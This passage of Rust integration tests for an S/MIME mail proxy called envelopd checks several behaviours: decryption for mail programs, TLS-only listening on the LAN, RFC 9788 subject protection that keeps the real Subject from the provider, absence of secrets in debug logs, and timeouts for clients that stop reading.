    let fetched = std::fs::read(w.join("fetched.eml")).unwrap();
    // fetchmail adds its own Received field (before the first one); nothing else may differ.
    let mut fetched_lines = Vec::new();
    let mut in_own = false;
    for l in lf(&fetched).lines() {
        if l.starts_with("Received: from 127.0.0.1 [127.0.0.1]") {
            in_own = true;
            continue;
        }
        if in_own && (l.starts_with('\t') || l.starts_with(' ')) {
            continue;
        }
        in_own = false;
        fetched_lines.push(format!("{l}\n"));
    }
    assert_eq!(fetched_lines.concat(), lf(&shown), "fetchmail's copy");

    // s-nail: prints the decrypted text with envelopd's status.
    let o = Command::new("s-nail")
        .args(["-n", "-R", "-S", "v15-compat", "-S", "password=bob-pw"])
        .args(["-Y", "Print 1", "-Y", "quit", "-f"])
        .arg(format!("imap://bob%40smime.example@127.0.0.1:{bob_imap}"))
        .env("HOME", w)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        out.contains(SECRET) && out.contains("X-Envelopd: decrypted=aes-256-cbc"),
        "s-nail:\n{out}{}",
        String::from_utf8_lossy(&o.stderr)
    );
    // Every reader left the server's copy as it was: encrypted.
    let stored = provider.all_messages("bob");
    assert!(!String::from_utf8_lossy(&stored[0]).contains(SECRET));
}

#[test]
fn the_lan_reads_only_over_tls_with_starttls_or_imaps() {
    let provider = Provider::start();
    let (_ad, alice_smtp, _ai, _alice) = envelopd(&provider, "alice", "implicit", provider.imaps);
    let o = send_mail(
        alice_smtp,
        "alice@smime.example",
        "alice-pw",
        "bob@smime.example",
        "over the LAN",
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stdout));
    provider.wait_messages("bob", 1);
    let tls_files = format!(
        "cert = \"{}\"\nkey = \"{}\"\n",
        provider.dir.path().join("tls/server.pem").display(),
        provider.dir.path().join("tls/server.key").display()
    );
    // A gateway: IMAP on all addresses with STARTTLS, reached through this machine's LAN address.
    let dir = tempfile::tempdir().unwrap();
    let imap = free_port();
    let bob_key = dir.path().join("bob.p12");
    std::fs::copy(common::rfc9216().join("bob.p12"), &bob_key).unwrap();
    std::fs::write(dir.path().join("pw"), "bob\n").unwrap();
    use std::os::unix::fs::PermissionsExt;
    for f in ["bob.p12", "pw"] {
        std::fs::set_permissions(dir.path().join(f), std::fs::Permissions::from_mode(0o600))
            .unwrap();
    }
    std::fs::write(
        dir.path().join("proxy.toml"),
        format!(
            "[smtp]\nlisten = \"127.0.0.1:{}\"\n[imap]\nlisten = \"0.0.0.0:{imap}\"\ntls = \"starttls\"\n{tls_files}\
             [upstream.smtp]\nhost = \"127.0.0.1\"\nport = {}\ntls = \"none\"\n\
             [upstream.imap]\nhost = \"localhost\"\nport = {}\ntls = \"implicit\"\nca_file = \"{}\"\nsystem_roots = false\n\
             [[identity]]\naddresses = [\"bob@smime.example\"]\npkcs12 = \"bob.p12\"\npassword_file = \"pw\"\n",
            free_port(),
            provider.plain,
            provider.imaps,
            provider.ca().display()
        ),
    )
    .unwrap();
    let _e = common::run_envelopd(
        &dir.path().join("proxy.toml"),
        &dir.path().join("envelopd.log"),
    );
    wait_for(imap);
    let script =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/clients/imap_tls_edges.py");
    let o = Command::new("python3")
        .arg(script)
        .args([&testkit::procs::lan_address(), &imap.to_string()])
        .arg(provider.ca())
        .args(["bob@smime.example", "bob-pw"])
        .output()
        .unwrap();
    let log = std::fs::read_to_string(dir.path().join("envelopd.log")).unwrap();
    assert!(
        o.status.success(),
        "{}{}\n{log}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    // A LAN listener without TLS is refused at start-up.
    let bad = dir.path().join("bad.toml");
    std::fs::write(
        &bad,
        std::fs::read_to_string(dir.path().join("proxy.toml"))
            .unwrap()
            .replace("tls = \"starttls\"\n", ""),
    )
    .unwrap();
    let o = Command::new(ENVELOPD)
        .args(["check", "--no-connect", "--config"])
        .arg(&bad)
        .output()
        .unwrap();
    assert!(!o.status.success());
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("listening beyond this machine needs TLS"),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
}

/// RFC 9788 through real Postfix and Dovecot: Alice's envelopd sends three encrypted messages to
/// Bob (header protection on, on with a Legacy Display Element, off). The provider stores
/// `[...]` as Subject of the protected ones and nothing of the real Subject; Bob reading through
/// his envelopd sees the real Subject in every FETCH form and finds it with SEARCH; the Legacy
/// Display Element is hidden; no envelopd log (at debug level) contains the Subject.
#[test]
fn protected_subjects_are_hidden_from_the_provider_and_shown_in_every_fetch_form() {
    const WORD: &str = "Roentgen";
    let subject = |kind: &str| format!("Befund Patientin M. {WORD} Thorax {kind}");
    let provider = Provider::start();
    let debug = [("RUST_LOG", "debug")];
    let mut dirs = Vec::new();
    let mut procs = Vec::new();
    for (kind, policy) in [
        ("on", ""),
        ("legacy", "[policy]\nlegacy_display = true\n"),
        ("off", "[policy]\nheader_protection = \"off\"\n"),
    ] {
        let (dir, smtp, _imap, p) = envelopd_env(
            &provider,
            "alice",
            "implicit",
            provider.imaps,
            policy,
            &debug,
            "",
        );
        let o = send_mail(
            smtp,
            "alice@smime.example",
            "alice-pw",
            "bob@smime.example",
            &subject(kind),
        );
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stdout));
        // One at a time, so the UIDs follow the order on, legacy, off.
        provider.wait_messages("bob", dirs.len() + 1);
        dirs.push(dir);
        procs.push(p);
    }
    let stored = provider.wait_messages("bob", 3);
    assert_eq!(stored.len(), 3);
    let v = common::rfc9216();
    let bob_key = v.join("bob.encrypt.key");
    for (i, copy) in stored.iter().enumerate() {
        let text = String::from_utf8_lossy(copy);
        assert!(
            text.contains("application/pkcs7-mime"),
            "copy {i} not encrypted"
        );
        let inside = String::from_utf8_lossy(&openssl(
            &["cms", "-decrypt", "-inkey", bob_key.to_str().unwrap()],
            copy,
        ))
        .into_owned();
        if i < 2 {
            // The provider has only "[...]": the real Subject is inside the encryption only.
            assert_eq!(subject_of(copy), "[...]", "copy {i}");
            assert!(
                !text.contains(WORD) && !text.contains("Thorax"),
                "copy {i}: {text}"
            );
            assert!(inside.contains(&format!("Subject: {}\r\n", subject(["on", "legacy"][i]))));
            assert!(
                inside.contains("hp=\"cipher\"") && inside.contains("HP-Outer: Subject: [...]")
            );
            assert_eq!(
                inside.contains("hp-legacy-display"),
                i == 1,
                "copy {i}: {inside}"
            );
        } else {
            assert_eq!(subject_of(copy), subject("off"));
            assert!(!inside.contains("hp="), "{inside}");
        }
    }

    let status = free_port();
    let (bob_dir, _bs, bob_imap, _bob) = envelopd_env(
        &provider,
        "bob",
        "implicit",
        provider.imaps,
        &format!("[status]\nlisten = \"127.0.0.1:{status}\"\n"),
        &debug,
        "",
    );
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/clients/imap_headers.py");
    let o = Command::new("python3")
        .arg(script)
        .args([&bob_imap.to_string(), "bob@smime.example", "bob-pw", WORD])
        .output()
        .unwrap();
    assert!(
        o.status.success(),
        "imap_headers.py: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    let seen: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let msgs = seen["messages"].as_array().unwrap();
    assert_eq!(msgs.len(), 3);
    for (m, kind) in msgs.iter().zip(["on", "legacy", "off"]) {
        let want = subject(kind);
        let body = b64d(&m["body"]);
        let header = b64d(&m["header"]);
        assert_eq!(subject_of(&body), want, "{kind}: BODY[]");
        assert_eq!(subject_of(&header), want, "{kind}: BODY[HEADER]");
        assert_eq!(
            subject_of(&b64d(&m["rfc822_header"])),
            want,
            "{kind}: RFC822.HEADER"
        );
        assert_eq!(
            b64d(&m["subject_field"]),
            format!("Subject: {want}\r\n\r\n").into_bytes(),
            "{kind}: HEADER.FIELDS"
        );
        assert!(
            m["envelope"]
                .as_str()
                .unwrap()
                .contains(&format!("\"{want}\"")),
            "{kind}: ENVELOPE {}",
            m["envelope"]
        );
        assert!(
            !String::from_utf8_lossy(&header).contains("[...]"),
            "{kind}"
        );
        assert!(
            !String::from_utf8_lossy(&header).contains("HP-Outer"),
            "{kind}"
        );
        // The header and text forms agree with BODY[] and its size.
        let text = b64d(&m["text"]);
        assert_eq!(
            [header.as_slice(), text.as_slice()].concat(),
            body,
            "{kind}"
        );
        assert_eq!(m["size"].as_u64().unwrap() as usize, body.len(), "{kind}");
        let text = String::from_utf8_lossy(&text);
        assert!(text.contains(SECRET), "{kind}: {text}");
        assert!(
            !text.contains(WORD),
            "{kind}: Legacy Display Element shown: {text}"
        );
        let status = status_of(&body).unwrap();
        assert!(status.contains("signature=valid"), "{kind}: {status}");
        assert_eq!(
            status.contains("headers=protected"),
            kind != "off",
            "{status}"
        );
    }
    let uids: Vec<u64> = msgs.iter().map(|m| m["uid"].as_u64().unwrap()).collect();
    let found = |key: &str| -> Vec<u64> {
        seen[key]
            .as_array()
            .unwrap()
            .iter()
            .map(|u| u.as_u64().unwrap())
            .collect()
    };
    assert_eq!(found("search_subject"), uids, "SEARCH SUBJECT");
    assert_eq!(found("search_header"), uids, "SEARCH HEADER Subject");

    // Bob's envelopd counted the three S/MIME messages it decrypted for reading (each at
    // least once; the cache spares repeats), none failed, the IMAP server was always reachable.
    let m = common::scrape(status);
    let sample = |name: &str, label: Option<(&str, &str)>| -> f64 {
        common::metric(&m, name, label.as_slice())
    };
    let decrypted = sample(
        "envelopd_imap_smime_opened_total",
        Some(("result", "decrypted")),
    );
    assert!((3.0..=9.0).contains(&decrypted), "{decrypted}: {m:?}");
    assert_eq!(
        sample(
            "envelopd_imap_smime_opened_total",
            Some(("result", "failed"))
        ),
        0.0
    );
    assert_eq!(sample("envelopd_imap_open_seconds_count", None), decrypted);
    assert_eq!(
        sample("envelopd_upstream_errors_total", Some(("proto", "imap"))),
        0.0
    );
    assert!(sample("envelopd_sessions_total", Some(("proto", "imap"))) >= 1.0);

    // No log line of any envelopd (debug level), after full sessions (AUTH, signing, encryption,
    // IMAP login, decryption, verification), carries a secret: the protected Subject, the body,
    // the provider passwords (as typed or in the AUTH PLAIN encoding), or private-key material.
    drop(procs);
    let mut secrets: Vec<String> = vec![
        WORD.into(),
        "Thorax".into(),
        SECRET.into(),
        "unauffaellig".into(),
        "alice-pw".into(),
        "bob-pw".into(),
    ];
    for user in ["alice", "bob"] {
        let plain = format!("\0{user}@smime.example\0{user}-pw");
        for v in [plain, format!("{user}-pw")] {
            let b64 = smime::mime::base64_lines(v.as_bytes());
            secrets.push(String::from_utf8_lossy(&b64).trim_end().to_string());
        }
    }
    for key in [
        "alice.sign.key",
        "alice.encrypt.key",
        "bob.sign.key",
        "bob.encrypt.key",
    ] {
        let pem = std::fs::read_to_string(v.join(key)).unwrap();
        // Any full base64 line of the key, and its DER in Rust's Debug and hex forms.
        let lines: Vec<&str> = pem.lines().filter(|l| !l.starts_with("-----")).collect();
        secrets.extend(lines.iter().skip(2).map(|l| l.to_string()));
        let der = smime::mime::base64_decode(lines.concat().as_bytes()).unwrap();
        let middle = &der[der.len() / 2..der.len() / 2 + 12];
        secrets.push(format!("{middle:?}").trim_matches(['[', ']']).to_string());
        secrets.push(middle.iter().map(|b| format!("{b:02x}")).collect());
    }
    for dir in dirs.iter().map(|d| d.path()).chain([bob_dir.path()]) {
        let log = std::fs::read_to_string(dir.join("envelopd.log")).unwrap();
        assert!(log.contains("DEBUG"), "debug logging was on");
        for s in &secrets {
            assert!(
                !log.contains(s.as_str()),
                "{s:?} in the log of {}:\n{log}",
                dir.display()
            );
        }
    }
}

#[test]
fn a_mail_program_that_stops_reading_is_dropped_and_a_slow_one_is_not() {
    // An 8 MiB message (an X-ray attached, say) fetched through envelopd with a 2 s command
    // timeout: a mail program that keeps reading, however slowly, gets all of it; one that
    // stops reading is dropped after 2 s without progress instead of holding the session and
    // its Dovecot connection forever.
    let provider = Provider::start();
    let line = "Roentgenbild Zahn 36, Aufnahme vom Vormittag, ohne Befund.\r\n";
    let body = line.repeat(8 * 1024 * 1024 / line.len());
    let msg =
        format!("From: alice@smime.example\r\nTo: bob@smime.example\r\nSubject: big\r\n\r\n{body}");
    provider.deliver("bob", "big.eml", msg.as_bytes());
    let (dir, _smtp, imap, _p) = envelopd_env(
        &provider,
        "bob",
        "starttls",
        provider.imap,
        "",
        &[],
        "command_timeout = 2\n",
    );
    let script = r#"
import socket, sys, time
port, mode = int(sys.argv[1]), sys.argv[2]
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)  # before connect: a small window
s.connect(("127.0.0.1", port))
buf = b""
def until(token):
    global buf
    while token not in buf:
        d = s.recv(65536)
        if not d:
            sys.exit("closed before " + token.decode())
        buf += d
until(b"\r\n")
s.sendall(b"a LOGIN bob@smime.example bob-pw\r\n"); until(b"a OK")
s.sendall(b"b SELECT INBOX\r\n"); until(b"b OK")
buf = b""
s.sendall(b"c FETCH 1 BODY.PEEK[]\r\n")
started = time.time()
if mode == "stops":
    time.sleep(6)
while b"c OK" not in buf:
    if mode == "slow":
        time.sleep(0.05)
    d = s.recv(65536)
    if not d:
        print("closed", len(buf))
        sys.exit(0)
    buf += d
print("complete", len(buf), int(time.time() - started))
"#;
    let run = |mode: &str| {
        let o = Command::new("python3")
            .args(["-c", script, &imap.to_string(), mode])
            .output()
            .unwrap();
        let out =
            String::from_utf8_lossy(&o.stdout).to_string() + &String::from_utf8_lossy(&o.stderr);
        assert!(o.status.success(), "{mode}: {out}");
        let words: Vec<String> = out.split_whitespace().map(String::from).collect();
        (words[0].clone(), words[1].parse::<usize>().unwrap(), out)
    };
    let (how, bytes, out) = run("slow");
    assert_eq!(how, "complete", "{out}");
    assert!(bytes > 8 * 1024 * 1024, "{out}");
    let seconds: u64 = out.split_whitespace().nth(2).unwrap().parse().unwrap();
    assert!(
        seconds > 2,
        "the slow reader was not slower than the timeout: {out}"
    );
    let (how, bytes, out) = run("stops");
    assert_eq!(how, "closed", "{out}");
    assert!(bytes < 8 * 1024 * 1024, "{out}");
    let log = std::fs::read_to_string(dir.path().join("envelopd.log")).unwrap();
    assert!(
        log.contains("timed out") || log.contains("TimedOut"),
        "{log}"
    );
}
